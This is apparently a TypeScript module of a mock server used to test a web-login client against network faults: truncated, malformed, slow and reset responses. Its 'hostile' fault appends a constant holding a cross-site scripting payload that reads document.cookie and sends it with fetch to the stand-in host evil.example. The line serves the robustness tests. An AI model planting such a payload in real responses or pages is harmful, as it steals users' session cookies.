// One request/response pair and the single exit every answer goes through, so armed faults
// (reset mid-body, slow or malformed bodies, hostile scripts) apply to the real body.
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Fault } from './faults.ts';
import type { HostInfo } from './hosts.ts';
import type { Session } from './session.ts';
import type { Timers } from './timers.ts';
import { baseResponse, toWireJson } from './wire.ts';

/** How protocol errors are spelled on this endpoint. */
export type ReplyStyle = 'json' | 'synccheck' | 'login' | 'jslogin' | 'xml' | 'binary';

export interface RequestLogEntry {
  id: number;
  at: number;
  method: string;
  scheme: 'http' | 'https';
  host: string;
  path: string;
  endpoint: string;
  query: Record<string, string>;
  headers: Record<string, string | string[] | undefined>;
  referer: string | undefined;
  origin: string | undefined;
  status: number | undefined;
  /** Short JSON/text request body (uploads are summarised instead). */
  body: string | undefined;
  fault: string | undefined;
}

export interface Exchange {
  req: IncomingMessage;
  res: ServerResponse;
  url: URL;
  scheme: 'http' | 'https';
  hostInfo: HostInfo;
  endpoint: string;
  style: ReplyStyle;
  query: URLSearchParams;
  cookies: Map<string, string>;
  body: Buffer;
  /** Parsed JSON body (POST endpoints that take JSON); undefined when absent or unparsable. */
  json: Record<string, unknown> | undefined;
  session: Session | undefined;
  fault: Fault | undefined;
  log: RequestLogEntry;
  timers: Timers;
}

export interface Reply {
  status?: number;
  headers?: Record<string, string | string[]>;
  body: string | Buffer;
}

const CONTENT_TYPE: Record<ReplyStyle, string> = {
  json: 'text/plain; charset=UTF-8',
  synccheck: 'text/javascript',
  login: 'text/javascript',
  jslogin: 'text/javascript',
  xml: 'text/plain; charset=UTF-8',
  // Media handlers set their own type; this one only labels error bodies.
  binary: 'text/plain; charset=UTF-8',
};

const HOSTILE_SUFFIX = ';document.body.innerHTML="<img src=x onerror=alert(document.cookie)>";fetch("https://evil.example/?"+document.cookie)';

export function send(ex: Exchange, reply: Reply): void {
  const { res } = ex;
  if (res.headersSent || res.writableEnded || res.destroyed) return;
  let body = typeof reply.body === 'string' ? Buffer.from(reply.body, 'utf8') : reply.body;
  const headers: Record<string, string | string[]> = { 'content-type': CONTENT_TYPE[ex.style], ...reply.headers };
  const status = reply.status ?? 200;
  const fault = ex.fault;
  if (fault?.kind === 'malformed') body = Buffer.concat([body.subarray(0, Math.floor(body.length / 2)), Buffer.from('\u0000}{"')]);
  if (fault?.kind === 'hostile') body = Buffer.concat([body, Buffer.from(HOSTILE_SUFFIX)]);
  res.writeHead(status, { ...headers, 'content-length': String(body.length) });
  if (fault?.kind === 'reset') {
    // Announce the full length, send half, then drop the connection: a reset mid-body.
    res.write(body.subarray(0, Math.floor(body.length / 2)), () => ex.req.socket.destroy());
    return;
  }
  if (fault?.kind === 'slow') {
    dribble(ex, body, fault.delayMs);
    return;
  }
  res.end(body);
}

function dribble(ex: Exchange, body: Buffer, totalMs: number): void {
  const pieces = 8;
  const size = Math.ceil(body.length / pieces) || 1;
  let offset = 0;
  const step = (): void => {
    if (ex.res.destroyed) return;
    const next = body.subarray(offset, offset + size);
    offset += size;
    if (offset >= body.length) {
      ex.res.end(next);
      return;
    }
    ex.res.write(next);
    ex.timers.after(totalMs / pieces, step);
  };
  step();
}

export function sendJson(ex: Exchange, value: unknown, status = 200): void {
  send(ex, { status, body: toWireJson(value) });
}

/** A protocol-level refusal, spelled the way this endpoint spells it. */
export function protocolError(ex: Exchange, code: number, message = ''): void {
  switch (ex.style) {
    case 'synccheck':
      return send(ex, { body: `window.synccheck={retcode:"${code}",selector:"0"}` });
    case 'login':
      return send(ex, { body: `window.code=${code};` });
    case 'jslogin':
      return send(ex, { body: `window.QRLogin.code = ${code};` });
    case 'xml':
      return send(ex, { body: `<error><ret>${code}</ret><message>${message}</message></error>` });
    default:
      return sendJson(ex, { BaseResponse: baseResponse(code, message) });
  }
}

/** BaseRequest of a JSON body, if it is there. */
export function baseRequest(ex: Exchange): Record<string, unknown> | undefined {
  const value = ex.json?.['BaseRequest'];
  return typeof value === 'object' && value !== null && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined;
}
